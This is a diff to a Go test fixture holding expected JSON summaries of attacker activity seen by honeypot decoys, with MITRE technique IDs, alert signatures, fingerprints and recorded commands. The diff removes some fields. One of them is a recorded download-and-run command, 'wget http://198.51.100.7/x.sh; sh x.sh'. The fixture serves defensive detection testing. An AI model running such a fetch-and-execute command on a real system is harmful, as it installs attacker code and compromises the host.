@@ -24,16 +24,16 @@ var shown = map[string]string{
 		"login_attempts": 1,
 		"command_count": 5,
 		"spoofable": false,
-		"command.line": ["echo \"hi there\" > /tmp/f", "AUTH x", "EVAL a b", "SET a b", "KEYS a b"],
+		"command.line": ["AUTH x", "EVAL a b", "SET a b", "KEYS a b"],
 		"movement.edges": [
-			{"count": 1, "first": "2026-01-01T23:28:51.211064Z", "from": "decky-05", "to": "decky-07"},
+			{"count": 1, "first": "2026-01-01T23:28:53.535427Z", "from": "decky-05", "to": "decky-07"},
 			{"count": 1, "first": "2026-01-01T23:29:45.630745Z", "from": "decky-07", "to": "decky-01"},
 			{"count": 1, "first": "2026-01-01T23:30:24.937891Z", "from": "decky-01", "to": "decky-08"}
 		],
 		"traversal_path": "decky-05 → decky-07 → decky-01 → decky-08",
-		"threat.technique.id": ["T1059.004", "T1110", "T1595.001"],
+		"threat.technique.id": ["T1059.004", "T1110"],
 		"risk.level": "Moderate",
-		"threat.indicator.description": "185.242.33.16, scanning: 17 events on 3 services of 4 decoys, 1 login attempt, 5 commands"
+		"threat.indicator.description": "185.242.33.16, mixed: 17 events (1 claimed) on 3 services of 4 decoys, 1 login attempt, 4 commands"
 	}`,
 	"cowrie": `{
 		"ip": "127.0.0.2",
@@ -145,13 +145,11 @@ var shown = map[string]string{
 		"alerts": [
 			{"category": "Attempted Administrator Privilege Gain", "count": 1, "first_seen": "2026-11-24T00:00:07.487403Z", "last_seen": "2026-11-24T00:00:07.487403Z", "severity": 1, "signature": "DOSSIER EXPLOIT Log4j lookup in a header (CVE-2021-44228)"},
 			{"category": "Potentially Bad Traffic", "count": 2, "first_seen": "2026-11-24T00:00:07.508143Z", "last_seen": "2026-11-24T00:00:07.748753Z", "severity": 2, "signature": "DOSSIER ATTACK_RESPONSE id check returned root"},
-			{"category": "Potential Corporate Privacy Violation", "count": 1, "first_seen": "2026-11-24T00:00:09.457982Z", "last_seen": "2026-11-24T00:00:09.457982Z", "severity": 1, "signature": "DOSSIER INFO long DNS label"},
 			{"category": "A Network Trojan was detected", "count": 1, "first_seen": "2026-11-24T00:00:09.480445Z", "last_seen": "2026-11-24T00:00:09.480445Z", "severity": 1, "signature": "DOSSIER PHISH executable attachment"}
 		],
 		"artifact.sha256": ["6896d9ea3f73a4434f5832bc65714e7d066f177373f36f34dc8a6f735daa41b1", "bfa20a876f14a54cbf5e78a6679f4f3c6bce0641d1d4cd2af02daa167a987bc5"],
 		"fingerprint.hassh": ["472b5de333ad665af5cbf10ff892c4df"],
 		"fingerprint.ja3": [
-			"121f6e4f22ee3205214b0676ed64b9e2",
 			"2c4428422b734ef16cdbf05bc5d82e08",
 			"78f0dc5ac5b19daf131a133cfdee9691",
 			"d54afe3e6974b809bf1bec9bb6677890"
@@ -161,9 +159,9 @@ var shown = map[string]string{
 			"t12i0206h2_b06afd972a5c_a44c6288192a",
 			"t13i3111h2_e8f1e7e78f70_b26ce05bbdd6"
 		],
-		"threat.technique.id": ["T1046", "T1048.003", "T1059", "T1078", "T1105", "T1110", "T1190", "T1566.001"],
+		"threat.technique.id": ["T1046", "T1059", "T1078", "T1105", "T1110", "T1190", "T1566.001"],
 		"risk.level": "High",
-		"threat.indicator.description": "10.99.0.1, scanning: 101 events on 9 services of 2 decoys, 2 login attempts (1 successful), 3 commands, 2 files"
+		"threat.indicator.description": "10.99.0.1, scanning: 101 events (23 claimed) on 9 services of 2 decoys, 2 login attempts (1 successful), 3 commands, 2 files"
 	}`,
 	"ecs": `{
 		"ip": "127.0.0.41",
@@ -176,12 +174,11 @@ var shown = map[string]string{
 		"login_attempts": 3,
 		"command_count": 3,
 		"spoofable": false,
-		"artifact.url": ["http://198.51.100.7/x.sh"],
-		"command.line": ["wget http://198.51.100.7/x.sh; sh x.sh", "cat /proc/cpuinfo | grep name | wc -l", "uname -a; id"],
+		"command.line": ["cat /proc/cpuinfo | grep name | wc -l", "uname -a; id"],
 		"login_successes": 1,
-		"threat.technique.id": ["T1033", "T1059.004", "T1078", "T1082", "T1105", "T1110"],
+		"threat.technique.id": ["T1033", "T1059.004", "T1078", "T1082", "T1110"],
 		"risk.level": "High",
-		"threat.indicator.description": "127.0.0.41, mixed: 9 events on 1 service of 2 decoys, 3 login attempts (1 successful), 3 commands, 1 file"
+		"threat.indicator.description": "127.0.0.41, mixed: 9 events (3 claimed) on 1 service of 2 decoys, 3 login attempts (1 successful), 2 commands"
 	}`,
 	"dionaea": `{
 		"ip": "127.0.0.43",
